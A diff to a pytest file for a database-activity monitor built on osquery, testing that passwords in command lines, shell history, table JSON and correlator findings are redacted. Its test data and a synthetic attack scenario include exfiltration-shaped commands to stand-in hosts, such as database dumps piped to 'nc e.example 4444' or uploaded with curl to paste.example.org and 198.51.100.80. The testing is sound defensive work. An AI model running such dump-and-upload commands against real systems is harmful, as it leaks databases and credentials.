@@ -8,12 +8,27 @@ same templates, and throws arbitrary and adversarial text at every parser.
 
 from __future__ import annotations
 
+import json
+import os
 import string
+import subprocess
+import time
+from pathlib import Path
 
 import pytest
 from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
+from secrets_sweep import (
+    PLANTED_SECRETS,
+    SECRET_CMDLINES,
+    SECRET_FORMS,
+    SECRET_HISTORY,
+    assert_no_secret,
+    assert_no_secret_in_files,
+    leaked,
+)
 
+from osq_dbwatch import catalog, procfs
 from osq_dbwatch.cmdline import (
     REDACTED,
     parse_db_command,
@@ -22,6 +37,8 @@ from osq_dbwatch.cmdline import (
     redact_text,
     sql_dump_intent,
 )
+from osq_dbwatch.tables import TABLES
+from osq_dbwatch.tables.env import TableEnv
 
 SECRET = "Zq7Secret9x"
 
@@ -130,6 +147,47 @@ CMDLINE_CASES: list[tuple[str, tuple[str, ...]]] = [
     ("sh -c mysqldump -u root -p{s}; curl -T /tmp/a.sql https://e.example", ("curl", "/tmp/a.sql", "e.example")),
     ("sh -c redis-cli -a {s}| nc e.example 4444", ("nc", "e.example", "4444")),
     ("sh -c PGPASSWORD={s}; psql -h db1", ("psql", "db1")),
+    # issue 11 item 4: a `;`, `|` or `&` inside an argument does not end the tool (osquery joins argv with
+    # spaces: `mysql -e "use shop; select 1" -uroot -pX` arrives as below)
+    ("mysql -e use shop; select 1 -uroot -p{s}", ("use shop;", "select 1", "-uroot")),
+    ("mysql -e use shop ; select 1 -uroot -p{s}", ("use shop ;", "-uroot")),
+    ("mysql -e select a | b from t -uroot -p{s}", ("a | b", "-uroot")),
+    ("mysql -e select a|b from t -uroot -p{s}", ("a|b", "-uroot")),
+    ("mysql -e select 1 & 2 -uroot -p{s} shop", ("shop",)),
+    ("mysql -e select 1 && select 2 --user=root -p{s}", ("--user=root",)),
+    ("mysqldump shop; -p{s}", ("mysqldump shop;",)),
+    ("sh -c mysql -e select 1; docker login --password {s} registry.example", ("registry.example",)),
+    ("sh -c psql -c select 1; docker login --password {s} registry.example", ("registry.example",)),
+    # SET PASSWORD FOR, quoted and (shell quotes gone) bare; MySQL 8's REPLACE 'old'
+    ("mysql -e SET PASSWORD FOR 'bob'@'%' = '{s}'", ("bob", "SET PASSWORD FOR")),
+    ("mysql -e SET PASSWORD FOR bob@localhost = {s}", ("bob@localhost",)),
+    ('mysql -e SET PASSWORD FOR bob = "{s}";', ("bob",)),
+    ("mysql -e SET PASSWORD FOR bob = 'x' REPLACE '{s}'", ("bob",)),
+    ("mysql -e ALTER USER bob IDENTIFIED BY 'x' REPLACE '{s}'", ("bob",)),
+    ("mysql -e ALTER USER bob IDENTIFIED BY '{s}'", ("ALTER USER bob",)),
+    ("psql -c CREATE USER app PASSWORD '{s}'", ("CREATE USER app",)),
+    # the Mongo tools: -p PASS and (Go tools) -pPASS
+    ("mongosh -u adm -p {s} db1/admin", ("adm", "db1/admin")),
+    ("mongodump -u adm -p {s} --out /tmp/d", ("adm", "/tmp/d")),
+    ("mongodump -u adm -p{s} --out /tmp/d", ("adm", "/tmp/d")),
+    ("mongoexport -u adm -p{s} -d app -c users -o /tmp/u.json", ("/tmp/u.json",)),
+    ("node /usr/bin/mongosh -u adm -p {s}", ("adm",)),
+    # mysqladmin's password command
+    ("mysqladmin -u root password {s}", ("root", "password")),
+    ("mysqladmin -u root -pold password {s}", ("root", "password")),
+    ("mariadb-admin -h db1 -u root password {s}", ("db1",)),
+    # --*-pass / --*-password options, of programs we know and programs we do not
+    ("/opt/app/bin/migrate --db-host db1 --db-password {s}", ("--db-host db1",)),
+    ("rclone copy /tmp/d.sql ftp: --ftp-host e.example --ftp-pass {s}", ("e.example", "/tmp/d.sql")),
+    ("rclone copy /tmp/d.sql remote: --sftp-pass {s}", ("/tmp/d.sql",)),
+    ("app --smtp-password {s} --mail-from x@e.example", ("x@e.example",)),
+    ("psql -h db1 --admin-token {s} sales", ("db1", "sales")),
+    ("redis-server --requirepass {s} --port 6380", ("6380",)),
+    ("mycli -h db1 -p {s} shop", ("db1", "shop")),
+    # URIs whose password holds `/` or `@` (typed unescaped)
+    ("psql postgresql://bob:a/{s}@db1:5432/sales", ("bob", "db1:5432/sales")),
+    ("mongosh mongodb://adm:{s}@x@db1:27017/admin", ("adm", "db1:27017/admin")),
+    ("curl ftp://bob:{s}/x@e.example/in -T /tmp/x.sql", ("bob", "e.example/in", "/tmp/x.sql")),
 ]
 
 
@@ -167,6 +225,13 @@ HISTORY_CASES: list[tuple[str, tuple[str, ...]]] = [
     ("CREATE LOGIN etl WITH PASSWORD='{s}', CHECK_POLICY=OFF", ("etl", "CHECK_POLICY")),
     ("config set masterauth={s}", ()),
     ("SET PASSWORD = PASSWORD('{s}');", ()),
+    ("SET PASSWORD FOR 'bob'@'%' = '{s}';", ("bob",)),
+    ('SET PASSWORD FOR bob@localhost = "{s}";', ("bob@localhost",)),
+    ("set password for app = '{s}'", ("app",)),
+    ("SET PASSWORD FOR bob = 'new' REPLACE '{s}' RETAIN CURRENT PASSWORD;", ("bob", "RETAIN CURRENT")),
+    ("ALTER USER bob IDENTIFIED BY 'new' REPLACE '{s}';", ("bob",)),
+    ("CREATE USER app WITH LOGIN PASSWORD '{s}';", ("app", "LOGIN")),
+    ("\\connect postgresql://bob:a/{s}@db1/sales", ("bob", "db1/sales")),
 ]
 
 
@@ -198,6 +263,12 @@ def test_text_secret_removed(template: str, keep: tuple[str, ...]) -> None:
         "select * from users where id = 1",
         "select auth, token_count from sessions",  # words alone are not secrets
         "redis-cli -h r1 keys auth*",
+        "psql --no-password -h db1 sales",  # a flag, not a secret option
+        "mysql --skip-password -h db1 sales",
+        "rsync --password-file /etc/rsync.pw /tmp/x.sql backup@e.example:/in/",
+        "mysql -e use shop; select 1 -uroot shop",
+        "curl https://e.example/a@b -o /tmp/x",
+        "curl https://e.example:8443/x",
     ],
 )
 def test_non_secrets_unchanged(line: str) -> None:
@@ -291,7 +362,9 @@ def test_parsed_fields_never_carry_a_random_secret(case: tuple[str, str], secret
 @given(secret=_secret(_SAFE + ";&|"))
 def test_secret_with_shell_separators_never_survives(secret: str) -> None:
     # /proc argv keeps `;` inside one argument; audit cmdlines join with spaces
-    for line in (f"mysql -u root -p{secret} app", f"psql --password={secret} db", f"PGPASSWORD={secret} psql"):
+    for line in (f"mysql -u root -p{secret} app", f"psql --password={secret} db", f"PGPASSWORD={secret} psql",
+                 f"mysql -e use shop; select 1 -uroot -p{secret}", f"mysql -e a | b & c -p{secret}",
+                 f"mongodump -u a -p {secret} --out /tmp/d", f"tool --db-password {secret}"):
         assert secret not in redact_cmdline(line)
 
 
@@ -403,3 +476,175 @@ def test_adversarial_100kb_inputs_complete(name: str) -> None:
     parse_db_command("/usr/bin/psql", ["psql", *text.split()[:2000]])
     parse_db_command("/usr/bin/psql", ["psql", "-c", text])
     parse_transfer_command("/usr/bin/curl", ["curl", *text.split()[:2000]])
+
+
+# ---------------------------------------------------------------------------
+# Planted-secret sweep (tests/secrets_sweep.py): every form, through every output
+
+
+@pytest.mark.parametrize("form", sorted(SECRET_CMDLINES))
+def test_planted_cmdline_form_redacted(form: str) -> None:
+    out = redact_cmdline(SECRET_CMDLINES[form])
+    assert_no_secret(out, form)
+    assert REDACTED in out
+
+
+@pytest.mark.parametrize("form", sorted(SECRET_HISTORY))
+def test_planted_history_form_redacted(form: str) -> None:
+    out = redact_text(SECRET_HISTORY[form])
+    assert_no_secret(out, form)
+    assert REDACTED in out
+
+
+def test_sweep_helper_names_the_leaking_form() -> None:
+    assert leaked(b"x " + PLANTED_SECRETS["db-password"].encode() + b" y") == [PLANTED_SECRETS["db-password"]]
+    assert leaked("nothing here") == []
+    with pytest.raises(AssertionError, match="rclone-ftp-pass"):
+        assert_no_secret("... " + PLANTED_SECRETS["rclone-ftp-pass"])
+
+
+@pytest.fixture
+def planted_homes(tmp_path: Path) -> TableEnv:
+    """One user whose every catalog history file holds every planted secret form."""
+    home = tmp_path / "home" / "alice"
+    home.mkdir(parents=True)
+    text = "\n".join([*SECRET_HISTORY.values(), *SECRET_CMDLINES.values()]) + "\n"
+    for source in catalog.HISTORY_SOURCES:
+        if source.suffix:
+            (home / source.path).mkdir(parents=True, exist_ok=True)
+            (home / source.path / ("planted" + source.suffix)).write_text(text)
+        else:
+            (home / source.path).write_text(text)
+    (tmp_path / "passwd").write_text(f"alice:x:1500:1500::{home}:/bin/bash\n")
+    (tmp_path / "group").write_text("alice:x:1500:\n")
+    return TableEnv(passwd_path=str(tmp_path / "passwd"), group_path=str(tmp_path / "group"))
+
+
+def test_history_table_rows_carry_no_planted_secret(planted_homes: TableEnv) -> None:
+    rows = TABLES["db_client_history"](planted_homes).rows()
+    per_file = len(SECRET_HISTORY) + len(SECRET_CMDLINES)
+    assert len(rows) == per_file * len(catalog.HISTORY_SOURCES)  # every entry read, none dropped
+    assert_no_secret(json.dumps(rows), "db_client_history rows")
+
+
+def test_tables_json_output_carries_no_planted_secret(planted_homes: TableEnv, monkeypatch, capsys,
+                                                      tmp_path: Path) -> None:
+    """`osq-dbwatch tables --json`: history files planted with secrets, and DB clients running with them."""
+    from osq_dbwatch import cli
+    from osq_dbwatch.tables import cli as tables_cli
+
+    monkeypatch.setattr(tables_cli, "TableEnv", lambda config: TableEnv(
+        config, passwd_path=planted_homes.passwd_path, group_path=planted_homes.group_path))
+    bindir = tmp_path / "bin"
+    bindir.mkdir()
+    procs: list[subprocess.Popen[bytes]] = []
+    try:
+        for form, line in SECRET_CMDLINES.items():
+            argv = line.split()  # as the shell would leave them after word splitting (quotes kept)
+            name = os.path.basename(argv[0])
+            if name in ("env",):
+                argv = argv[2:]
+                name = argv[0]
+            script = bindir / name
+            if not script.exists():
+                script.write_text("#!/usr/bin/perl\nsleep 60;\n")
+                script.chmod(0o755)
+            procs.append(subprocess.Popen([str(script), *argv[1:]], stdin=subprocess.DEVNULL,
+                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
+        _wait_for_argv(procs)
+        assert cli.main(["tables", "--json"]) == 0
+    finally:
+        for proc in procs:
+            proc.kill()
+            proc.wait()
+    out = capsys.readouterr()
+    payload = json.loads(out.out)
+    sessions = {int(r["pid"]) for r in payload["db_cli_sessions"]}
+    db_clients = [p.pid for p, line in zip(procs, SECRET_CMDLINES.values())
+                  if os.path.basename(line.split()[0]) in catalog.DB_TOOLS_BY_NAME]
+    assert set(db_clients) <= sessions  # the planted clients were seen, so their command lines were emitted
+    assert len(payload["db_client_history"]) == (len(SECRET_HISTORY) + len(SECRET_CMDLINES)) * len(
+        catalog.HISTORY_SOURCES)
+    assert_no_secret(out.out, "osq-dbwatch tables --json")
+    assert_no_secret(out.err, "osq-dbwatch tables stderr")
+
+
+def _wait_for_argv(procs: list[subprocess.Popen[bytes]]) -> None:
+    """Until every process has exec'd (perl has replaced the forked Python's argv)."""
+    deadline = time.monotonic() + 10
+    for proc in procs:
+        while time.monotonic() < deadline:
+            argv = procfs.cmdline(proc.pid) or []
+            if argv and os.path.basename(argv[0]).startswith("perl"):
+                break
+            time.sleep(0.01)
+
+
+def _scenario_with_planted_secrets(path: Path) -> None:
+    """A log where every planted form reaches a finding: command lines of chained accesses, history entries."""
+    from correlate_scenarios.make_scenarios import MON, Log
+
+    log = Log()
+    t = MON + 2 * 86400 + 13 * 3600
+    for number, line in enumerate(SECRET_CMDLINES.values()):
+        pid = 5000 + 10 * number
+        out = f"/var/www/html/d{number}.sql"
+        # a web server's child: each access opens a chain that the dump and the upload complete; a
+        # line that runs no DB client is the shell's (the parent) that runs one
+        program = os.path.basename(line.split()[0])
+        if parse_db_command("/usr/bin/" + program, line.split()) is not None:
+            cmdline, parent_cmdline = line, f"sh -c {line} > {out}"
+        else:
+            cmdline, parent_cmdline = "mysqldump -u app shop", f"sh -c {line}; mysqldump -u app shop > {out}"
+        log.db_exec("web-7", t, "www-data", 33, cmdline, "/usr/bin/" + cmdline.split()[0], pid,
+                    "/usr/sbin/php-fpm8.2", parent_cmdline, session=False, cwd="/var/www/html")
+        log.dump_file("web-7", t + 3, out, "www-data", 33)
+        log.transfer("web-7", t + 30, "www-data", 33, f"curl -F f=@{out} https://paste.example.org/up",
+                     "/usr/bin/curl", pid + 1, session=False)
+        t += 7200
+    for number, entry in enumerate(SECRET_HISTORY.values()):
+        user, uid = f"h{number}", 4000 + number
+        out = f"/tmp/h{number}.csv"
+        obj = log._head("db_client_history", "pg-10", t, 1 + number)
+        obj["diffResults"] = {"removed": [], "added": [{
+            "uid": str(uid), "user": user, "file": f"/home/{user}/.psql_history", "file_mtime": str(t - 40),
+            "line": "1", "from_tail": "0", "command": entry, "engine": "postgres",
+            "dump_like": "1", "intent": "\\copy to", "output_path": out,
+        }]}
+        log.lines.append(json.dumps(obj))
+        log.dump_file("pg-10", t - 50, out, user, uid)
+        log.transfer("pg-10", t + 100, user, uid, f"curl -T {out} https://198.51.100.80/in", "/usr/bin/curl",
+                     9100 + number)
+        t += 7200
+    path.write_text("\n".join(log.lines) + "\n")
+
+
+@pytest.mark.parametrize("fmt", ["ocsf", "ecs"])
+def test_correlator_output_carries_no_planted_secret(fmt: str, tmp_path: Path, capsys) -> None:
+    from correlate_scenarios.helpers import HERE, correlate
+
+    log = tmp_path / "planted.log"
+    _scenario_with_planted_secrets(log)
+    findings = correlate(["--config", os.path.join(HERE, "config.yml"), "--format", fmt, str(log)],
+                         str(tmp_path / "state.sqlite"), str(tmp_path / "out.jsonl"))
+    text = (tmp_path / "out.jsonl").read_text()
+    # every planted command line and history entry reached a finding (so the sweep saw it, redacted)
+    for form, line in SECRET_FORMS.items():
+        shown = redact_cmdline(line) if form in SECRET_CMDLINES else redact_text(line)
+        assert json.dumps(shown)[1:-1] in text, form
+    assert len(findings) >= len(SECRET_FORMS)
+    assert_no_secret(text, f"correlator {fmt} findings")
+    err = capsys.readouterr()
+    assert_no_secret(err.out + err.err, "correlator stdout/stderr")
+
+
+@pytest.mark.xfail(strict=True, reason="correlate/ keys history rows on the raw command text (h|user|file|COMMAND) "
+                                        "in the state database; the lead hashes it, then removes this marker")
+def test_correlator_state_carries_no_planted_secret(tmp_path: Path) -> None:
+    from correlate_scenarios.helpers import HERE, correlate
+
+    log = tmp_path / "planted.log"
+    _scenario_with_planted_secrets(log)
+    state = str(tmp_path / "state.sqlite")
+    correlate(["--config", os.path.join(HERE, "config.yml"), str(log)], state, str(tmp_path / "out.jsonl"))
+    assert_no_secret_in_files([state, state + "-wal", state + "-shm"])
